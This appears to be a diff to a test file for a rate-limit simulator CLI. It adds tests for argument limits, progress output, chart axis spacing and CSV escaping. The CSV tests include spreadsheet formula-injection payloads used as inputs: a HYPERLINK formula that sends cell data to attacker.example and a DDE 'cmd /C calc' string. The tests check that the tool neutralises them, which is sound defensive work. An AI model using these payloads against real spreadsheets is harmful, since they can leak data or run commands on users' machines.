@@ -7,9 +7,11 @@
 import { mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { csvKey } from '../../lib/simulator/csv-output.js';
 import { simulate } from '../../lib/simulator/simulate.js';
-import { parseSimulateArgs, type SimulateOptions } from '../../lib/simulator/simulate-args.js';
+import { MAX_RATE_REQUESTS, parseSimulateArgs, SimulateArgumentError, type SimulateOptions } from '../../lib/simulator/simulate-args.js';
 import type { Summary } from '../../lib/simulator/summary.js';
+import { evenlySpaced } from '../../lib/simulator/traffic.js';
 
 let dir: string;
 
@@ -201,5 +203,133 @@ describe('simulate --compare and --json', () => {
     expect(first.match(/>requests\/s</g)).toHaveLength(6);
     expect(first).toContain('>admitted</text>');
     expect(first).toContain('>refused</text>');
+  });
+});
+
+describe('simulate --rate: a run that ends', () => {
+  const policy = ['--policy', '{"rps":10,"burst":50}'];
+
+  it('refuses a --rate and --duration that make more than 10,000,000 requests before deciding any, naming the flags', () => {
+    expect(() => parseSimulateArgs([...policy, '--rate', '1e308', '--duration', '1s'])).toThrow(
+      new SimulateArgumentError(
+        'Invalid nestjs-ratelimit simulate argument --rate: times --duration 1s makes over 1e308 requests; a run simulates at most 10,000,000: lower --rate or --duration, got "1e308"',
+      ),
+    );
+    expect(() => parseSimulateArgs([...policy, '--rate', '200', '--duration', '1d'])).toThrow(
+      'Invalid nestjs-ratelimit simulate argument --rate: times --duration 1d makes 17,280,000 requests; a run simulates at most 10,000,000: lower --rate or --duration, got "200"',
+    );
+    expect(() => parseSimulateArgs([...policy, '--rate', '1e14', '--duration', '1d'])).toThrow('times --duration 1d makes 8.64e+18 requests');
+    // the default --duration counts too
+    expect(() => parseSimulateArgs([...policy, '--rate', '1000001'])).toThrow(/times --duration 10s makes 10,000,010 requests/);
+    expect(parseSimulateArgs([...policy, '--rate', '1000', '--duration', '10000s'])).toMatchObject({ traffic: { rate: 1000, durationMs: 10_000_000 } });
+    expect(MAX_RATE_REQUESTS).toBe(10_000_000);
+  });
+
+  it('refuses a --duration over a day: counts are kept per second, and evenly spaced traffic only repeats itself', () => {
+    expect(() => parseSimulateArgs([...policy, '--rate', '0.001', '--duration', '2d'])).toThrow(
+      new SimulateArgumentError('Invalid nestjs-ratelimit simulate argument --duration: must be at most 1d (86400 s); replay a --trace for longer traffic, got "2d"'),
+    );
+    expect(parseSimulateArgs([...policy, '--rate', '1', '--duration', '1d'])).toMatchObject({ traffic: { rate: 1, durationMs: 86_400_000 } });
+  });
+
+  it('says on stderr how far a long run is, every second or so of its clock', () => {
+    // a clock that moves 600 ms each time it is read: read every 16,384 requests, a line every other read
+    let now = 0;
+    const lines: string[] = [];
+    const arrivals = [...evenlySpaced(1000, 100_000, (line) => lines.push(line), () => (now += 600))];
+    expect(arrivals).toHaveLength(100_000);
+    expect(lines).toEqual([
+      'simulate: 32,768 of 100,000 requests (32 %), 27,307 requests/s',
+      'simulate: 65,536 of 100,000 requests (65 %), 27,307 requests/s',
+      'simulate: 98,304 of 100,000 requests (98 %), 27,307 requests/s',
+    ]);
+  });
+});
+
+describe('simulate --csv: keys a spreadsheet would run as formulas', () => {
+  it("writes a key that starts with =, +, -, @, a tab or a carriage return as quoted text after a ' (OWASP), and '-' alone as it is", () => {
+    expect(['=1+2', '+1', '-1+2', '@SUM(A1)', '\tx', '\rx', '=a,"b"', '-', 'a,b', 'say "hi"', "'quoted", 'alice'].map(csvKey)).toEqual([
+      `"'=1+2"`,
+      `"'+1"`,
+      `"'-1+2"`,
+      `"'@SUM(A1)"`,
+      `"'\tx"`,
+      `"'\rx"`,
+      `"'=a,""b"""`,
+      '-',
+      '"a,b"',
+      '"say ""hi"""',
+      "'quoted",
+      'alice',
+    ]);
+  });
+
+  it('keeps a formula in a trace key from reaching the file as one', async () => {
+    const trace = join(dir, 'formulas.ndjson');
+    const csv = join(dir, 'formulas-out.csv');
+    const keys = ['=HYPERLINK("http://attacker.example/?x="&A1,"click")', '+cmd|\' /C calc\'!A0', '-2+3', '@SUM(1+1)*cmd', '\t=1', '\r=1', '', 'bob'];
+    await writeFile(trace, keys.map((key, i) => JSON.stringify({ time: i, key })).join('\n'));
+    await run('--policy', '{"rps":1,"burst":100}', '--trace', trace, '--csv', csv);
+    expect(await readFile(csv, 'utf8')).toBe(
+      [
+        'time_ms,key,allowed,remaining,retry_after',
+        `0,"'=HYPERLINK(""http://attacker.example/?x=""&A1,""click"")",true,99,0`,
+        `1,"'+cmd|' /C calc'!A0",true,99,0`,
+        `2,"'-2+3",true,99,0`,
+        `3,"'@SUM(1+1)*cmd",true,99,0`,
+        `4,"'\t=1",true,99,0`,
+        `5,"'\r=1",true,99,0`,
+        // no key: the client '-', as the summary names it
+        '6,-,true,99,0',
+        '7,bob,true,99,0',
+        '',
+      ].join('\n'),
+    );
+  });
+});
+
+describe('simulate: traces over huge spans', () => {
+  /** The x axis's labels in the terminal chart: the line under the plot, ending in " s". */
+  const axisLine = (stdout: string): string => stdout.split('\n').filter((line) => / s$/.test(line) && !line.includes('requests')).pop()!;
+
+  it('spaces the terminal x axis by its labels: none run together, whatever their digits', async () => {
+    const trace = join(dir, 'span.csv');
+    // the widest span a trace can have: times from -(2^53 - 1) to 2^53 - 1 ms
+    await writeFile(trace, '-9007199254740991,a\n9007199254740991,a\n');
+    const { stdout } = await run('--policy', '{"rps":10,"burst":5}', '--trace', trace);
+    const axis = axisLine(stdout);
+    expect(axis).toBe(`${' '.repeat(8)}0${' '.repeat(15)}4503599627376   9007199254752    18014398509482 s`);
+    expect(Math.max(...stdout.split('\n').map((line) => [...line].length))).toBeLessThanOrEqual(80);
+
+    await writeFile(trace, '0,a\n9007199254740991,a\n');
+    const labels = axisLine((await run('--policy', '{"rps":10,"burst":5}', '--trace', trace)).stdout);
+    expect(labels).toMatch(/^ {8}0( {2,}\d+)+ {2,}9007199254741 s$/);
+  });
+
+  it('spaces the SVG x axis by its labels, each inside the picture', async () => {
+    const trace = join(dir, 'span-svg.csv');
+    const svg = join(dir, 'span.svg');
+    await writeFile(trace, '-9007199254740991,a\n9007199254740991,a\n');
+    await run('--policy', '{"rps":10,"burst":5}', '--trace', trace, '--svg', svg);
+    // the x labels: centred numbers under the plot; a digit at 12 px is at most 0.6 em, 7.2 px, wide
+    const labels = [...(await readFile(svg, 'utf8')).matchAll(/<text x="([\d.]+)" y="\d+" text-anchor="middle" fill="#424242">(\d+)<\/text>/g)].map(([, x, text]) => ({
+      x: Number(x),
+      width: text.length * 7.2,
+    }));
+    expect(labels.length).toBeGreaterThanOrEqual(3);
+    for (let i = 1; i < labels.length; i++) {
+      const [left, right] = [labels[i - 1], labels[i]];
+      expect(right.x - right.width / 2 - (left.x + left.width / 2)).toBeGreaterThanOrEqual(6);
+    }
+    expect(labels.at(-1)!.x + labels.at(-1)!.width / 2).toBeLessThanOrEqual(800);
+  });
+
+  it('reports a time past 2^53 - 1 ms as a bad line instead of failing to draw the span', async () => {
+    const trace = join(dir, 'past.csv');
+    await writeFile(trace, `0,a\n1${'0'.repeat(300)},a\n-9007199254740992,a\n`);
+    const { stdout } = await run('--policy', '{"rps":10,"burst":5}', '--trace', trace);
+    expect(stdout).toContain('1 request replayed');
+    expect(stdout).toContain('line 2: time is beyond ±9007199254740991 ms, where milliseconds are no longer exact: "1000000000');
+    expect(stdout).toContain('line 3: time is beyond ±9007199254740991 ms, where milliseconds are no longer exact: "-9007199254740992"');
   });
 });
